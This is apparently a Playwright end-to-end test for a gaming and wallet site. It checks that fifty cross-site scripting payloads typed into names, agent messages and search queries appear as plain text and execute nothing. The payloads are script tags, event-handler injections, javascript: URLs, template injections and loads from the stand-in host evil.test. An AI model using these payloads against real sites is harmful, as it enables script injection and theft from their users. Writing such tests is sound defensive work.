import type { APIRequestContext, BrowserContext, Page } from '@playwright/test';
import { expect, test } from './story.ts';

/** Where a script that ran would leave its mark. */
const mark = 'ran=1';
/** Each is at most as long as a name may be, and would run somewhere: as HTML, as an attribute, as an address, as a template. */
const payloads = [
  `<script>${mark}</script>`,
  `</script><script>${mark}</script>`,
  `<SCRIPT>${mark}</SCRIPT >`,
  `<script src=//evil.test/x.js></script>`,
  `<img src=x onerror=${mark}>`,
  `<img/src=x/onerror=${mark}>`,
  `"><img src=x onerror=${mark}>`,
  `'><img src=x onerror=${mark}>`,
  `<svg onload=${mark}>`,
  `<svg/onload=${mark}//`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><animate onbegin=${mark} attributeName=x>`,
  `<svg><a xlink:href=javascript:${mark}>x</a></svg>`,
  `<body onload=${mark}>`,
  `<body onpageshow=${mark}>`,
  `<iframe src=javascript:${mark}>`,
  `<iframe srcdoc="<script>${mark}</script>">`,
  `<object data=javascript:${mark}>`,
  `<embed src=javascript:${mark}>`,
  `<a href=javascript:${mark}>x</a>`,
  `<form action=javascript:${mark}><button>x`,
  `<input autofocus onfocus=${mark}>`,
  `<select autofocus onfocus=${mark}>`,
  `<textarea autofocus onfocus=${mark}>`,
  `<details open ontoggle=${mark}>`,
  `<video src=x onerror=${mark}>`,
  `<audio src=x onerror=${mark}>`,
  `<video><source onerror=${mark}></video>`,
  `<marquee onstart=${mark}>`,
  `<math href=javascript:${mark}>x</math>`,
  `<style>@import '//evil.test/x.css'</style>`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<meta http-equiv=refresh content=0;url=//evil.test>`,
  `<base href=//evil.test/>`,
  `<template><script>${mark}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>`,
  `<!--><img src=x onerror=${mark}>-->`,
  `<![CDATA[<script>${mark}</script>]]>`,
  `javascript:${mark}`,
  `data:text/html,<script>${mark}</script>`,
  `" autofocus onfocus=${mark} x="`,
  `' onmouseover=${mark} style='position:fixed;inset:0`,
  `\`-${mark}-\``,
  `\${${mark}}`,
  `{{constructor.constructor('${mark}')()}}`,
  `{{count}} $t(common.ok) {{- name}}`,
  `<%= ${mark} %>`,
  `&lt;script&gt;${mark}&lt;/script&gt;`,
  `&#60;img src=x onerror=${mark}&#62;`,
  `%3Cscript%3E${mark}%3C/script%3E`,
] as const;

const password = 'corn-and-gold-7';
const profile = {
  firstName: 'Hostile',
  lastName: 'Texts',
  username: 'hostile_texts',
  email: 'hostile_texts@example.test',
  phone: '+1 555 010 2030',
  country: null,
  currency: 'USD',
};

interface Session {
  readonly user: unknown;
  readonly token: string;
}

/** A player may ask its agent for so much in ten minutes. */
const requestsAtOnce = 20;

async function register(request: APIRequestContext, username = profile.username): Promise<Session> {
  const { firstName, lastName, phone: phoneNumber } = profile;
  const email = `${username}@example.test`;
  const passwords = { password, confirmPassword: password };
  const data = { firstName, lastName, username, email, phoneNumber, ...passwords };
  const response = await request.post('/api/auth/register', { data });
  expect(response.status()).toBe(201);
  const { data: opened }: { data: { user: unknown; accessToken: string } } = await response.json();
  return { user: opened.user, token: opened.accessToken };
}

async function signInAgent(request: APIRequestContext, data: object): Promise<Session> {
  const { data: opened }: { data: { user: unknown; accessToken: string } } = await (
    await request.post('/api/auth/login', { data })
  ).json();
  return { user: opened.user, token: opened.accessToken };
}

const kept = ({ user, token }: Session) =>
  JSON.stringify({ user, token, isAuthenticated: true, lastRechargeStatus: 'success' });

async function keep(page: Page, session: Session): Promise<void> {
  await page.evaluate((text) => localStorage.setItem('golden-acers.auth', text), kept(session));
}

/** Whatever any page of the browser does that a text must not: a dialog, a mark, a foreign address. */
function watch(context: BrowserContext): string[] {
  const effects: string[] = [];
  context.on('dialog', (dialog) => {
    effects.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('request', (request) => {
    if (new URL(request.url()).hostname === 'evil.test') effects.push(`request ${request.url()}`);
  });
  return effects;
}

async function expectNothingRan(page: Page, effects: readonly string[]): Promise<void> {
  expect(await page.evaluate('typeof ran')).toBe('undefined');
  expect(effects).toEqual([]);
}

test('fifty script payloads in every text that a player can write come out as text', async ({
  page,
  context,
  request,
  product,
  browser,
}) => {
  expect(new Set(payloads).size).toBe(50);
  const effects = watch(context);
  const { token, user } = await register(request);
  const headers = { authorization: `Bearer ${token}` };

  await test.step('names stand on every page as they were typed', async () => {
    await page.goto('/terms');
    await keep(page, { token, user });
    await page.goto('/dashboard');
    // Another tab, from which this one hears of each change.
    const other = await context.newPage();
    await other.goto('/profile');
    for (const payload of payloads) {
      const changed = await request.put('/api/user/profile', {
        headers,
        data: { ...profile, firstName: payload, lastName: payload },
      });
      expect(changed.status(), payload).toBe(200);
      const { data }: { data: { user: unknown } } = await changed.json();
      await keep(other, { token, user: data.user });
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(`Welcome back, ${payload}!`);
      await expect(page.getByRole('main').getByText(`${payload} ${payload}`).first()).toBeVisible();
      await expectNothingRan(page, effects);
    }
    await other.close();
    await page.goto('/profile');
    const last = payloads.at(-1) ?? '';
    await expect(page.getByRole('main').getByText(`${last} ${last}`).first()).toBeVisible();
    await expectNothingRan(page, effects);
  });

  await test.step('username, address and phone take none of them', async () => {
    for (const payload of payloads) {
      for (const field of ['username', 'email', 'phone', 'country', 'currency']) {
        const refused = await request.put('/api/user/profile', {
          headers,
          data: { ...profile, [field]: payload },
        });
        expect(refused.status(), `${field}: ${payload}`).toBe(422);
      }
    }
  });

  await test.step('messages to the agent, and the agent’s answers, come out as text on both sides', async () => {
    const office = await browser.newContext({ baseURL: product.siteUrl });
    const officeEffects = watch(office);
    const desk = await office.newPage();
    const agent = await signInAgent(request, product.signIn('agent'));
    await desk.goto('/terms');
    await keep(desk, agent);
    const asAgent = { authorization: `Bearer ${agent.token}` };
    let asking = { token, user };
    for (const [place, message] of payloads.entries()) {
      if (place > 0 && place % requestsAtOnce === 0) {
        asking = await register(request, `hostile_texts_${place}`);
        await keep(page, asking);
      }
      const asked = await request.post('/api/fortune-panda-user/requests', {
        headers: { authorization: `Bearer ${asking.token}` },
        data: { kind: 'recharge', amount: 2_000, message },
      });
      expect(asked.status(), message).toBeLessThan(300);
      const { data }: { data: { id: string } } = await asked.json();
      if (place % 10 === 9) {
        await desk.goto('/adminacers?view=requests');
        await expect(desk.getByRole('row').filter({ hasText: message })).toHaveCount(1);
        await expectNothingRan(desk, officeEffects);
      }
      const declined = await request.post(`/api/fortune-panda/requests/${data.id}/decline`, {
        headers: asAgent,
        data: { reason: message },
      });
      expect(declined.status(), message).toBe(200);
      // Five are shown at a time.
      if (place % 5 !== 4) continue;
      await page.goto('/wallet');
      for (const shown of payloads.slice(place - 4, place + 1)) {
        // The player's words and the agent's.
        await expect(page.getByRole('main').getByText(shown).nth(1)).toBeVisible();
      }
      await expectNothingRan(page, effects);
    }
    await office.close();
  });

  await test.step('a search in the address is a search', async () => {
    for (const payload of payloads.slice(0, 10)) {
      await page.goto(`/games?${new URLSearchParams({ q: payload })}`);
      await expect(page.getByRole('main').getByText(payload).first()).toBeVisible();
      await expectNothingRan(page, effects);
    }
  });
});
